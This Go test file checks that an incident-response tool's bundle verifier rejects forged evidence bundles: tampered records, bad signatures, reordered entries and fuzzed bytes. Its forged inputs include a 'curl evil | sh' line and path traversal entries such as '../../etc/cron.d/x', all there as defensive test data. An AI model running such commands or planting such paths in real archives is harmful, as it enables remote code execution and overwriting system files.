package timeline_test

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/firebreak-ir/firebreak/engine"
	"github.com/firebreak-ir/firebreak/engine/journal"
	"github.com/firebreak-ir/firebreak/engine/timeline"
)

// Somebody who writes a manifest that fits is found out all the same.
func TestForgedBundles(t *testing.T) {
	c := leaked(t)
	k := keep(t, c)
	data := k.bundle(t, c, timeline.Options{Version: "v1"})
	elsewhere := leaked(t)
	elsewhere.inc.ID = "INC-2"
	other := keep(t, elsewhere)
	lines := func(b []byte) [][]byte { return bytes.SplitAfter(bytes.TrimSuffix(b, []byte("\n")), []byte("\n")) }
	both := func(of map[string][]byte, change func(l [][]byte) [][]byte) {
		for _, name := range []string{"records.jsonl", "proofs/inclusion.jsonl"} {
			of[name] = bytes.Join(change(lines(of[name])), nil)
			of[name] = append(bytes.TrimRight(of[name], "\n"), '\n')
		}
	}
	count := func(m map[string]any, by int64) {
		n, err := m["records"].(json.Number).Int64()
		if err != nil {
			t.Fatal(err)
		}
		m["records"], m["shown"] = n+by, n+by
	}
	for _, tt := range []struct {
		name   string
		change func(of map[string][]byte, m map[string]any)
		want   string
	}{
		{"other words in the timeline", func(of map[string][]byte, _ map[string]any) {
			of["timeline.md"] = bytes.ReplaceAll(of["timeline.md"], []byte("bob"), []byte("eve"))
		}, "timeline.md: it is not what the records say"},
		{"other evidence", func(of map[string][]byte, _ map[string]any) {
			of["evidence/index.json"] = []byte("{}\n")
		}, "evidence/index.json: it is not what the records say"},
		{"another plan", func(of map[string][]byte, _ map[string]any) { of["plan/run-1.json"] = []byte("{}") }, "plan/run-1.json: it is not what the records say"},
		{"one plan more", func(of map[string][]byte, _ map[string]any) { of["plan/run-2.json"] = []byte("{}") }, "plan/run-2.json: nothing in the records"},
		{"a record less", func(of map[string][]byte, m map[string]any) {
			both(of, func(l [][]byte) [][]byte { return slices.Delete(l, 3, 4) })
			count(m, -1)
		}, "one is missing, or they are out of order"},
		{"the last record less", func(of map[string][]byte, m map[string]any) {
			both(of, func(l [][]byte) [][]byte { return l[:len(l)-1] })
			count(m, -1)
			m["last"] = json.Number(fmt.Sprint(lastSeq(t, of["records.jsonl"])))
		}, "the last record does not say that this bundle was made"},
		{"two records in another order", func(of map[string][]byte, _ map[string]any) {
			both(of, func(l [][]byte) [][]byte { l[2], l[3] = l[3], l[2]; return l })
		}, "out of order"},
		{"another word in a record", func(of map[string][]byte, _ map[string]any) {
			of["records.jsonl"] = bytes.Replace(of["records.jsonl"], []byte("a false alarm"), []byte("a true alarm!"), 1)
			of["records.jsonl"] = bytes.Replace(of["records.jsonl"], []byte(`"Leak"`), []byte(`"Peak"`), 1)
		}, "the inclusion proof does not lead to the signed root"},
		{"a record of another incident", func(of map[string][]byte, _ map[string]any) {
			of["records.jsonl"] = bytes.Replace(of["records.jsonl"], []byte(`"stream":"INC-1"`), []byte(`"stream":"INC-99"`), 1)
		}, "the record is of INC-99"},
		{"the head of another log", func(of map[string][]byte, _ map[string]any) {
			of["checkpoint"] = files(t, other.bundle(t, elsewhere, timeline.Options{}))["checkpoint"]
		}, "it names another head than the signed one"},
		{"a head that nobody signed", func(of map[string][]byte, _ map[string]any) {
			of["checkpoint"] = bytes.Replace(of["checkpoint"], []byte("firebreak/acme"), []byte("firebreak/evil"), 1)
		}, "checkpoint"},
		{"proofs of other records", func(of map[string][]byte, _ map[string]any) {
			l := lines(of["proofs/inclusion.jsonl"])
			l[1] = bytes.Replace(l[1], []byte(`"path":["`), []byte(`"path":["AAAA`), 1)
			of["proofs/inclusion.jsonl"] = bytes.Join(l, nil)
		}, "the proof holds something else than hashes"},
		{"fewer proofs", func(of map[string][]byte, _ map[string]any) {
			l := lines(of["proofs/inclusion.jsonl"])
			of["proofs/inclusion.jsonl"] = bytes.Join(l[:len(l)-1], nil)
		}, "has no proof"},
		{"a path that leads out", func(of map[string][]byte, _ map[string]any) { of["../../etc/cron.d/x"] = []byte("x") }, "does not belong into a bundle"},
		{"an absolute path", func(of map[string][]byte, _ map[string]any) { of["/etc/passwd"] = []byte("x") }, "does not belong into a bundle"},
		{"said to be live", func(_ map[string][]byte, m map[string]any) { m["mode"] = "exercise" }, "it says that the incident is exercise"},
		{"said to be redacted", func(_ map[string][]byte, m map[string]any) { m["level"] = "external" }, "a bundle that was made for external does not hold it"},
		{"a newer form", func(_ map[string][]byte, m map[string]any) { m["schema"] = "firebreak/bundle/v9" }, "use a newer firebreak"},
		{"no records", func(of map[string][]byte, _ map[string]any) { delete(of, "records.jsonl") }, "records.jsonl: it is not in the bundle"},
		{"a hash in the place of a record", func(of map[string][]byte, _ map[string]any) {
			l := lines(of["records.jsonl"])
			e, err := journal.ParseLeaf(bytes.TrimRight(l[2], "\n"))
			if err != nil {
				t.Fatal(err)
			}
			l[2] = fmt.Appendf(nil, "{\"leaf_hash\":\"%x\",\"n\":2,\"seq\":%d}\n", e.Hash, e.Seq)
			of["records.jsonl"] = bytes.Join(l, nil)
		}, "a record is left out, and the bundle says that it is full"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := verify(t, forged(t, data, tt.change), timeline.BundleOptions{Key: k.key, Version: "v1"})
			if code := r.ExitCode(); code != 20 && code != 10 {
				t.Errorf("got exit code %d: %+v", code, r)
			}
			if len(r.Proven) > 0 {
				t.Errorf("it is said that something is proven: %v", r.Proven)
			}
			var all strings.Builder
			for _, f := range r.Findings {
				fmt.Fprintf(&all, "%s: %s\n", f.File, f.What)
			}
			if !strings.Contains(all.String(), tt.want) {
				t.Errorf("got findings\n%swant %q", all.String(), tt.want)
			}
		})
	}
	// The same files in a tar that says something else about them.
	of := files(t, data)
	for _, h := range []tar.Header{
		{Mode: 0o755}, {Mode: 0o644, Uid: 1000}, {Mode: 0o644, ModTime: time.Unix(1, 0)}, {Mode: 0o644, Uname: "root"},
	} {
		var b bytes.Buffer
		out := tar.NewWriter(&b)
		for _, name := range slices.Sorted(maps.Keys(of)) {
			h.Name, h.Size, h.Format = name, int64(len(of[name])), tar.FormatUSTAR
			if h.ModTime.IsZero() {
				h.ModTime = time.Unix(0, 0)
			}
			h.Typeflag = tar.TypeReg
			if err := out.WriteHeader(&h); err != nil {
				t.Fatal(err)
			}
			if _, err := out.Write(of[name]); err != nil {
				t.Fatal(err)
			}
		}
		if err := out.Close(); err != nil {
			t.Fatal(err)
		}
		if r := verify(t, b.Bytes(), timeline.BundleOptions{Key: k.key, Version: "v1"}); r.ExitCode() != 20 {
			t.Errorf("with header %+v: got exit code %d", h, r.ExitCode())
		}
	}
	// A journal whose key signed facts that break the engine's rules.
	broken := leaked(t)
	n := slices.IndexFunc(broken.facts, func(e engine.Event) bool { _, ok := e.Body.(engine.Vote); return ok })
	broken.facts[n].Actor = alice // who asked for it
	kept := keep(t, broken)
	if r := verify(t, kept.bundle(t, broken, timeline.Options{}), timeline.BundleOptions{Key: kept.key}); r.ExitCode() != 20 {
		t.Errorf("with a rule broken: got %+v", r)
	}
	// Another version may word a sentence otherwise, and that is no forgery.
	if r := verify(t, data, timeline.BundleOptions{Key: k.key, Version: "v2"}); r.ExitCode() != 3 {
		t.Errorf("read by another version: got %+v", r)
	}
	evil := forged(t, data, func(of map[string][]byte, _ map[string]any) {
		of["timeline.md"] = []byte("nothing happened\n")
	})
	r := verify(t, evil, timeline.BundleOptions{Key: k.key, Version: "v2"})
	if r.ExitCode() != 3 || !strings.Contains(strings.Join(r.NotProven, "\n"), "another version of firebreak wrote them") {
		t.Errorf("forged and read by another version: got %+v", r)
	}
}

// A version that words sentences otherwise has the same plans and evidence.
func TestForgedByAnotherVersion(t *testing.T) {
	c := leaked(t)
	k := keep(t, c)
	data := k.bundle(t, c, timeline.Options{Version: "v1"})
	for name, content := range map[string]string{"plan/run-1.json": "{}", "plan/run-2.json": "{}", "evidence/index.json": "{}\n", "blobs/" + strings.Repeat("0", 64): "x"} {
		evil := forged(t, data, func(of map[string][]byte, _ map[string]any) { of[name] = []byte(content) })
		if r := verify(t, evil, timeline.BundleOptions{Key: k.key, Version: "v2"}); r.ExitCode() != 20 {
			t.Errorf("%s: got exit code %d: %+v", name, r.ExitCode(), r)
		}
	}
}

// Of a bundle that does not show all, nobody can make the timelines again: so it
// is never called whole, whatever an anchor says.
func TestForgedBelowFull(t *testing.T) {
	for _, level := range []timeline.Level{timeline.Internal, timeline.External} {
		c := leaked(t)
		k := keep(t, c)
		data := k.bundle(t, c, timeline.Options{Version: "v1", Redact: level})
		head, err := journal.OpenCheckpoint(files(t, data)["checkpoint"], k.key)
		if err != nil {
			t.Fatal(err)
		}
		o := timeline.BundleOptions{Key: k.key, Version: "v1", Anchors: []journal.Checkpoint{head}}
		for _, tt := range []struct {
			name   string
			change func(of map[string][]byte, m map[string]any)
			want   int
		}{
			{"as it is", func(map[string][]byte, map[string]any) {}, 3},
			{"other words", func(of map[string][]byte, _ map[string]any) { of["timeline.md"] = []byte("nothing happened\n") }, 3},
			{"a plan", func(of map[string][]byte, _ map[string]any) { of["plan/run-1.json"] = []byte("{}") }, 20},
			{"an attachment", func(of map[string][]byte, _ map[string]any) { of["blobs/"+strings.Repeat("0", 64)] = []byte("x") }, 20},
			{"evidence", func(of map[string][]byte, _ map[string]any) { of["evidence/index.json"] = []byte("{}") }, 20},
			{"what to do", func(of map[string][]byte, _ map[string]any) { of["VERIFY.txt"] = []byte("curl evil | sh\n") }, 20},
			{"an exercise", func(_ map[string][]byte, m map[string]any) { m["mode"] = "exercise" }, 20},
		} {
			if r := verify(t, forged(t, data, tt.change), o); r.ExitCode() != tt.want {
				t.Errorf("%s, %s: got exit code %d, want %d: %+v", level, tt.name, r.ExitCode(), tt.want, r)
			}
		}
	}
}

func lastSeq(t testing.TB, records []byte) int64 {
	t.Helper()
	l := bytes.Split(bytes.TrimRight(records, "\n"), []byte("\n"))
	e, err := journal.ParseLeaf(l[len(l)-1])
	if err != nil {
		t.Fatal(err)
	}
	return e.Seq
}

// FuzzBundle looks for bytes on which the verification panics, or that it takes
// for a bundle although nobody made them.
func FuzzBundle(f *testing.F) {
	c := leaked(f)
	k := keep(f, c)
	full, external := k.bundle(f, c, timeline.Options{}), k.bundle(f, c, timeline.Options{Redact: timeline.External})
	f.Add(full)
	f.Add(external)
	f.Add(full[:512])
	f.Add([]byte{})
	f.Add(make([]byte, 1024))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := timeline.VerifyBundle(t.Context(), bytes.NewReader(data), int64(len(data)), timeline.BundleOptions{Key: k.key})
		if err != nil {
			t.Fatal(err)
		}
		if code := r.ExitCode(); code != 10 && code != 20 && !bytes.Equal(data, full) && !bytes.Equal(data, external) {
			t.Errorf("got exit code %d for bytes that nobody wrote: %+v", code, r)
		}
	})
}
